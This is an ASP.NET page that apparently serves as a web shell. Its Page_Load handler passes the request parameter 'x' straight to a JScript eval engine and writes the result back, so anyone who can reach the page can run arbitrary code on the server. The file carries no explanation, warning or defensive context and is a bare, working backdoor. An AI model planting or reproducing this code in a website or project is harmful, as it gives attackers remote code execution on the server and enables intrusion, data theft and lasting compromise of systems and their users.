<%@ Page Language="C#" %>
<%@ Assembly Name="Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Microsoft.JScript.Vsa.VsaEngine engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine();
    object result = Microsoft.JScript.Eval.JScriptEvaluate(Request["x"], engine);
    Response.Write(Convert.ToString(result));
}
</script>
